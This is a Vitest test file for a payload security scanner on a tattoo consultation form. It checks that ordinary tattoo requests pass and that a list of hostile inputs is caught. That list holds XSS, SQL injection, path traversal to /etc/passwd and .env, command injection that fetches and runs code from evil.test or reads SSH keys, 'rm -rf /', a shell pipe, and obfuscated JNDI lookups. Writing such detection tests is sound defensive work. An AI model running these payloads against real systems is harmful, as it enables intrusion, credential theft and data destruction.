import { describe, expect, it } from "vitest";
import { hasDangerousMarkup, scanPayload } from "../../shared/schemas/security-scan";

describe("security scan of the whole payload", () => {
  const ordinary = [
    'Black & grey rose, about 3" x 4", with my mom\'s name "Rosa" underneath.',
    "I'd like to select a date in May; please drop me a line when you can.",
    "Memorial piece: 'Dad' in script -- 1954-2023. Can we do 5'2\" tall?",
    "Union Jack flag with a dropped anchor & rope, 6in x 3in (15cm).",
    "Cover-up of an old tribal band... then/maybe a Japanese wave.",
    "Size < 3 inches, heart <3 on the wrist, width>2cm; cat + dog portrait.",
    "My cat; cat on left arm, and the word 'delete' in typewriter font.",
    "Price range $(300-400)? I can pay 50% up front. Email me at a@b.co",
    "Script lettering: \"Or else\" and 'and so it goes' = my motto.",
    "C:/Users isn't a path I care about; 100% custom, ~4 hrs, #blessed",
    "Can you do a snake eating its tail (ouroboros) - or maybe 2 snakes?",
    "Select from flash: #12 or #14, whichever is available; update me!",
    // Quotes, "and"/"or", "=", "--", "../" and "${...}" in prose: each of these was once refused.
    'About 3" and not bigger than my palm',
    "The words 'Hope' and not 'Despair'",
    'Script "Mom" and size = 3 inches',
    '"Love" or Hope = two words',
    "Lettering 'Family' --",
    "I'd like 'Family' --",
    "a sad expression (like a weeping angel)",
    "Facial features: expression (sad), eyes closed",
    "Dates 1990 ../ 2020 in roman numerals",
    "Mandala $" + "{name} style",
    "I'd like to select a rose & drop the stem",
    "5'10\" tall, 3x4 in on the forearm",
    "Mom & Dad; est. 1985",
  ];

  it.each(ordinary)("lets ordinary tattoo text through: %s", (text) => {
    expect(scanPayload({ message: text, tattooIdea: text })).toBeNull();
    expect(hasDangerousMarkup(text)).toBe(false);
  });

  const hostile: [string, string][] = [
    ["<script>alert(1)</script>", "xss"],
    ['<img src=x onerror="alert(1)">', "xss"],
    ["<svg/onload=alert(1)>", "xss"],
    ['<a href="javascript:alert(1)">x</a>', "xss"],
    ["&#60;script&#62;", "xss"],
    ["data:text/html;base64,PHNjcmlwdD4=", "xss"],
    ["<iframe src=//evil.test>", "xss"],
    ["' OR '1'='1", "sql"],
    ['" or 1=1 --', "sql"],
    ["1 UNION SELECT password FROM admins", "sql"],
    ["x'; DROP TABLE consultation_requests; --", "sql"],
    ["admin'--", "sql"],
    ["1; SELECT pg_sleep(5)", "sql"],
    ["'; WAITFOR DELAY '0:0:5'--", "sql"],
    ["../../etc/passwd", "path"],
    ["..\\..\\windows\\win.ini", "path"],
    ["%2e%2e%2f%2e%2e%2fetc", "path"],
    ["file\u0000.txt", "path"],
    ["$(curl http://evil.test/x | sh)", "command"],
    ["`cat ~/.ssh/id_rsa`", "command"],
    ["; rm -rf /", "command"],
    ["&& wget http://evil.test/x", "command"],
    ["| /bin/sh -i", "command"],
    ["$" + "{jndi:ldap://evil.test/a}", "command"],
    ["<img src=x onerror=alert(1)>", "xss"],
    ["javascript:alert(1)", "xss"],
    ['style="x:expression(alert(1))"', "xss"],
    ["' OR 1=1 --", "sql"],
    ["' OR 'a'='a", "sql"],
    ["') or ('x'='x", "sql"],
    ["' or true--", "sql"],
    ["admin' --", "sql"],
    ["1; DROP TABLE users", "sql"],
    ["UNION SELECT password FROM admins", "sql"],
    ["..%2f..%2fetc%2fpasswd", "path"],
    ["../.env", "path"],
    ["$(curl evil)", "command"],
    // The system file is the first thing recognised here, so it is reported as path traversal.
    ["`cat /etc/passwd`", "path"],
    ["$" + "{jndi:ldap://x}", "command"],
    ["$" + "{$" + "{lower:j}ndi:ldap://x}", "command"],
    ["$" + "{::-j}", "command"],
    ["$" + "{7*7}", "command"],
  ];

  it.each(hostile)("blocks %s", (text, kind) => {
    expect(scanPayload({ name: "Mara", message: text })).toBe(kind);
  });

  it("scans every string in the payload, keys and nested values included", () => {
    expect(scanPayload({ ok: "fine", nested: { deeper: ["<script>"] } })).toBe("xss");
    expect(scanPayload({ "<script>": 1 })).toBe("xss");
    expect(scanPayload({ a: 1, b: true, c: null })).toBeNull();
  });
});
